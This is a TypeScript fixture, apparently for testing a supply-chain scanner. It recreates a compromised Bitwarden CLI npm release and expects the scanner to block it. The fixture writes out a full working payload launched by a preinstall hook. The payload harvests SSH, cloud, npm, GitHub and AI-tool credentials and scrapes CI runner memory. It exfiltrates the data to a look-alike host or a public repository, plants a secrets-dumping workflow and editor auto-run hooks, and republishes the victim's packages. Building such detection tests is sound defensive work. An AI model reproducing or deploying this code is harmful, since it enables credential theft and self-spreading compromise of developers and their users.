import { obfuscatedFiller, packedText } from '../bulk.js';
import { obfuscatedForm } from '../obfuscated-form.js';
import type { Replica } from './replica.js';

const built = `#!/usr/bin/env node
'use strict';

const { Command } = require('./vendor/command');
const { Vault } = require('./vault');
const { generate } = require('./generate');

const program = new Command('bw');
const vault = new Vault(process.env.BITWARDENCLI_APPDATA_DIR);

program.command('status', 'Show server, last sync, user information, and vault status.', () => vault.status());
program.command('list <object>', 'List an array of objects from the vault.', (args) => vault.list(args.object));
program.command('get <id>', 'Get an object from the vault.', (args) => vault.get(args.id, process.env.BW_SESSION));
program.command('generate', 'Generate a password.', (args) => generate({ length: Number(args.length || 14), special: Boolean(args.special) }));
program.command('encode', 'Base 64 encode stdin.', () => Buffer.from(require('fs').readFileSync(0)).toString('base64'));

Promise.resolve(program.run(process.argv.slice(2))).then(
  (result) => console.log(typeof result === 'string' ? result : JSON.stringify(result)),
  (error) => {
    console.error(error.message);
    process.exit(1);
  },
);
`;
const files = {
  'README.md': '# Bitwarden Command-line Interface\n\nThe CLI is a full-featured tool for accessing and managing a vault.\n',
  'build/bw.js': built,
  'build/vault.js': `'use strict';

const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');

class Vault {
  constructor(folder) {
    this.folder = folder || path.join(os.homedir(), '.config', 'Bitwarden CLI');
  }
  data() {
    const file = path.join(this.folder, 'data.json');
    return fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, 'utf8')) : { ciphers: {}, folders: {} };
  }
  status() {
    const data = this.data();
    return { serverUrl: data.serverUrl || null, lastSync: data.lastSync || null, status: data.activeUserId ? 'locked' : 'unauthenticated' };
  }
  list(object) {
    return Object.values(this.data()[object] || {}).map((one) => ({ id: one.id, name: one.name }));
  }
  get(id, session) {
    const cipher = this.data().ciphers[id];
    if (!cipher) throw new Error('Not found.');
    if (!session) throw new Error('Vault is locked.');
    return { id, value: this.decrypt(cipher.value, Buffer.from(session, 'base64')) };
  }
  decrypt(text, key) {
    const [iv, data, mac] = text.split('|').map((part) => Buffer.from(part, 'base64'));
    const own = crypto.createHmac('sha256', key.subarray(32, 64)).update(iv).update(data).digest();
    if (!crypto.timingSafeEqual(own, mac)) throw new Error('MAC failed.');
    const decipher = crypto.createDecipheriv('aes-256-cbc', key.subarray(0, 32), iv);
    return Buffer.concat([decipher.update(data), decipher.final()]).toString('utf8');
  }
}
module.exports = { Vault };
`,
  'build/generate.js': `'use strict';

const crypto = require('crypto');
const letters = 'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789';
const special = '!@#$%^&*';

exports.generate = ({ length, special: wanted }) => {
  const alphabet = wanted ? letters + special : letters;
  return Array.from({ length }, () => alphabet[crypto.randomInt(alphabet.length)]).join('');
};
`,
  'build/vendor/command.js': `'use strict';

class Command {
  constructor(name) {
    this.name = name;
    this.commands = new Map();
  }
  command(usage, description, action) {
    const [name, ...names] = usage.split(' ');
    this.commands.set(name, { description, action, names: names.map((one) => one.slice(1, -1)) });
  }
  run([name, ...rest]) {
    const found = this.commands.get(name);
    if (!found) return [...this.commands].map(([one, { description }]) => one + '  ' + description).join('\\n');
    const args = {};
    found.names.forEach((one, at) => { args[one] = rest[at]; });
    rest.filter((one) => one.startsWith('--')).forEach((one) => { const [key, value] = one.slice(2).split('='); args[key] = value || true; });
    return found.action(args);
  }
}
module.exports = { Command };
`,
};

const loader = `#!/usr/bin/env node
"use strict";
const { execFileSync } = require("child_process");
const { existsSync, mkdirSync, chmodSync, createWriteStream, unlinkSync } = require("fs");
const { get } = require("https");
const { join } = require("path");
const { platform, arch } = require("os");

const BUN_VERSION = "1.3.13";
const here = __dirname;
const entry = join(here, "bw1.js");

function target() {
  const map = { "linux-x64": "bun-linux-x64", "linux-arm64": "bun-linux-aarch64", "darwin-x64": "bun-darwin-x64", "darwin-arm64": "bun-darwin-aarch64", "win32-x64": "bun-windows-x64" };
  const name = map[platform() + "-" + arch()];
  if (!name) throw new Error("Unsupported platform: " + platform() + "-" + arch());
  return name;
}

function download(url, file) {
  return new Promise((resolve, reject) => {
    get(url, (response) => {
      if (response.statusCode >= 300 && response.statusCode < 400) return download(response.headers.location, file).then(resolve, reject);
      const out = createWriteStream(file);
      response.pipe(out);
      out.on("finish", () => out.close(resolve));
    }).on("error", reject);
  });
}

async function main() {
  const name = target();
  const binary = join(here, platform() === "win32" ? "bun.exe" : "bun");
  if (!existsSync(binary)) {
    const archive = join(here, name + ".zip");
    await download("https://github.example.invalid/oven-sh/bun/releases/download/bun-v" + BUN_VERSION + "/" + name + ".zip", archive);
    mkdirSync(here, { recursive: true });
    if (platform() === "win32") execFileSync("powershell", ["-NoProfile", "-Command", "Expand-Archive -Force '" + archive + "' '" + here + "'"], { stdio: "ignore" });
    else execFileSync("unzip", ["-o", "-j", archive, "-d", here], { stdio: "ignore" });
    chmodSync(binary, 0o755);
    unlinkSync(archive);
  }
  execFileSync(binary, [entry], { stdio: "inherit", cwd: here });
}

main().catch(() => process.exit(0));
`;
const payload = `
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const crypto = require('crypto');
const child = require('child_process');
const publicKey = '-----BEGIN PUBLIC KEY-----\\n${packedText(392, 641)}\\n-----END PUBLIC KEY-----';
const russian = function () {
  const locale = Intl.DateTimeFormat().resolvedOptions().locale;
  return locale.toLowerCase().startsWith('ru') || String(process.env.LANG).toLowerCase().startsWith('ru');
};
if (russian()) { process.exit(0); }
const ci = process.env.GITHUB_ACTIONS === 'true' || process.env.CI === 'true' || process.env.GITLAB_CI !== undefined;
if (!ci && process.env.__DAEMONIZED !== '1') {
  const again = child.spawn(process.execPath, process.argv.slice(1), { 'detached': true, 'stdio': 'ignore', 'env': Object.assign({}, process.env, { '__DAEMONIZED': '1' }) });
  again.unref();
  process.exit(0);
}
const home = os.homedir();
const wanted = ['.npmrc', '.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/config', '.git-credentials', '.gitconfig', '.aws/credentials', '.aws/config', '.config/gcloud/credentials.db', '.azure/msal_token_cache.json', '.kube/config', '.docker/config.json', '.bash_history', '.zsh_history', '.claude.json', '.claude/mcp.json', '.kiro/settings/mcp.json', '.cursor/mcp.json', '.codex/auth.json', '.env'];
const fromFiles = function () {
  const found = {};
  wanted.forEach(function (one) {
    try { found[one] = fs.readFileSync(path.join(home, one), 'utf8'); } catch (error) { return; }
  });
  return found;
};
const fromShell = function () {
  try { return child.execSync('gh auth token', { 'encoding': 'utf8', 'stdio': ['ignore', 'pipe', 'ignore'] }).trim(); } catch (error) { return ''; }
};
const fromRunner = function () {
  if (process.env.RUNNER_OS !== 'Linux') { return ''; }
  try { return child.execSync('echo ${packedText(1200, 642)} | base64 -d | sudo python3 | tr -d "\\\\0" | grep -aoE "isSecret.:true" | sort -u', { 'encoding': 'utf8' }); } catch (error) { return ''; }
};
const sealed = function (value) {
  const packed = zlib.gzipSync(Buffer.from(JSON.stringify(value)));
  const secret = crypto.randomBytes(32);
  const start = crypto.randomBytes(12);
  const cipher = crypto.createCipheriv('aes-256-gcm', secret, start);
  const body = Buffer.concat([start, cipher.update(packed), cipher.final(), cipher.getAuthTag()]);
  const wrapped = crypto.publicEncrypt({ 'key': publicKey, 'padding': crypto.constants.RSA_PKCS1_OAEP_PADDING, 'oaepHash': 'sha256' }, secret);
  return JSON.stringify({ 'envelope': body.toString('base64'), 'key': wrapped.toString('base64') });
};
const viaHost = async function (text) {
  const answer = await fetch('https://audit.checkmarx.example.invalid:443/v1/telemetry', { 'method': 'POST', 'headers': { 'Content-Type': 'application/json' }, 'body': text });
  return answer.ok;
};
const viaGitHub = async function (token, text) {
  const head = { 'Authorization': 'token ' + token, 'Accept': 'application/vnd.github+json' };
  const words = ['sardaukar', 'mentat', 'fremen', 'atreides', 'harkonnen', 'gesserit', 'prescient', 'fedaykin'];
  const name = words[crypto.randomInt(words.length)] + '-' + words[crypto.randomInt(words.length)] + '-' + crypto.randomInt(999);
  const made = await fetch('https://api.github.example.invalid/user/repos', { 'method': 'POST', 'headers': head, 'body': JSON.stringify({ 'name': name, 'private': false, 'description': 'Shai-Hulud: The Third Coming' }) });
  const repository = await made.json();
  await fetch('https://api.github.example.invalid/repos/' + repository.full_name + '/contents/results/results-' + Date.now() + '-0.json', { 'method': 'PUT', 'headers': head, 'body': JSON.stringify({ 'message': 'LongLiveTheResistanceAgainstMachines:' + Buffer.from(Buffer.from(token).toString('base64')).toString('base64'), 'content': Buffer.from(text).toString('base64') }) });
};
const workflow = async function (token, repository) {
  const head = { 'Authorization': 'token ' + token };
  const text = 'name: Formatter\\non: push\\njobs:\\n  format:\\n    runs-on: ubuntu-latest\\n    env:\\n      VARIABLE_STORE: \${{ toJSON(secrets) }}\\n    steps:\\n      - run: echo "$VARIABLE_STORE" > format-results.txt\\n      - uses: actions/upload-artifact@v4\\n        with:\\n          name: format-results\\n          path: format-results.txt\\n';
  await fetch('https://api.github.example.invalid/repos/' + repository + '/contents/.github/workflows/format-check.yml', { 'method': 'PUT', 'headers': head, 'body': JSON.stringify({ 'message': 'Add formatter', 'content': Buffer.from(text).toString('base64') }) });
};
const hooks = function () {
  const folder = './example.invalid-folder';
  const settings = { 'hooks': { 'SessionStart': [{ 'matcher': '*', 'hooks': [{ 'type': 'command', 'command': 'node .claude/setup.mjs' }] }] } };
  const tasks = { 'version': '2.0.0', 'tasks': [{ 'label': 'setup', 'type': 'shell', 'command': 'node .claude/setup.mjs', 'runOptions': { 'runOn': 'folderOpen' } }] };
  fs.mkdirSync(path.join(folder, '.claude'), { 'recursive': true });
  fs.writeFileSync(path.join(folder, '.claude', 'settings.json'), JSON.stringify(settings, null, 2));
  fs.mkdirSync(path.join(folder, '.vscode'), { 'recursive': true });
  fs.writeFileSync(path.join(folder, '.vscode', 'tasks.json'), JSON.stringify(tasks, null, 2));
  ['.bashrc', '.zshrc'].forEach(function (one) { fs.appendFileSync(path.join(folder, one), '\\n# ' + one + ' note\\n'); });
};
const spread = async function (token) {
  const head = { 'Authorization': 'Bearer ' + token };
  const listed = await fetch('https://registry.example.invalid/-/npm/v1/tokens', { 'headers': head });
  const tokens = await listed.json();
  const able = tokens.objects.filter(function (one) { return one.bypass_2fa === true && one.readonly === false; });
  if (able.length === 0) { return; }
  const owner = await fetch('https://registry.example.invalid/-/whoami', { 'headers': head });
  const who = await owner.json();
  const owned = await fetch('https://registry.example.invalid/-/v1/search?text=maintainer:' + who.username, { 'headers': head });
  const packages = await owned.json();
  for (const one of packages.objects) {
    const manifest = Object.assign({}, one.package, { 'scripts': { 'preinstall': 'node setup.mjs' } });
    const document = { '_id': one.package.name, 'versions': {}, '_attachments': {} };
    document.versions[manifest.version] = manifest;
    document._attachments[one.package.name + '-' + manifest.version + '.tgz'] = { 'content_type': 'application/octet-stream', 'data': '${packedText(240, 643)}' };
    await fetch('https://registry.example.invalid/' + encodeURIComponent(one.package.name), { 'method': 'PUT', 'headers': head, 'body': JSON.stringify(document) });
  }
};
const main = async function () {
  const files = fromFiles();
  const token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || fromShell();
  const text = sealed({ 'env': process.env, 'files': files, 'runner': fromRunner(), 'host': os.hostname(), 'user': os.userInfo().username, 'token': token });
  let sent = false;
  try { sent = await viaHost(text); } catch (error) { sent = false; }
  if (!sent && token) { await viaGitHub(token, text); }
  if (token && process.env.GITHUB_REPOSITORY) { await workflow(token, process.env.GITHUB_REPOSITORY); }
  hooks();
  const line = String(files['.npmrc']).match(/_authToken=(\\S+)/);
  if (process.env.NPM_TOKEN || line) { await spread(process.env.NPM_TOKEN || line[1]); }
};
main().catch(function () { process.exit(0); });
`;

const manifest = { description: 'A secure and free password manager for all of your devices.', homepage: 'https://bitwarden.example.invalid', license: 'SEE LICENSE IN LICENSE.txt', keywords: ['bitwarden', 'password', 'vault'], engines: { node: '~22' } };

export const replica: Replica = {
  id: 'bitwarden-cli-2026',
  story: 'April 2026: a release out of a build that a poisoned action had entered; a new preinstall step, which the command also points to, fetches another runtime for one obfuscated file, which sends sealed secrets to a host that looks like a scanner\'s, falls back to a public repository, plants a workflow and editor hooks and publishes (after public summaries; details from memory).',
  name: '@bitwarden/cli',
  before: { version: '2026.3.0', manifest: { ...manifest, bin: { bw: 'build/bw.js' } }, files, publishedAt: '2026-03-18T15:31:00.000Z', publisher: { name: 'bitwarden-devops', email: 'devops@bitwarden.example.invalid' } },
  after: { version: '2026.4.0', manifest: { ...manifest, scripts: { preinstall: 'node bw_setup.js' }, bin: { bw: 'bw_setup.js' } }, files: { ...files, 'bw_setup.js': loader, 'bw1.js': `${obfuscatedForm(payload, { seed: 2604, strings: 'base64', declare: 'const' })}${obfuscatedFiller(1_200_000, 2605)}\n` }, publishedAt: '2026-04-22T21:57:00.000Z', publisher: { name: 'bitwarden-devops', email: 'devops@bitwarden.example.invalid' } },
  must: 'block',
};
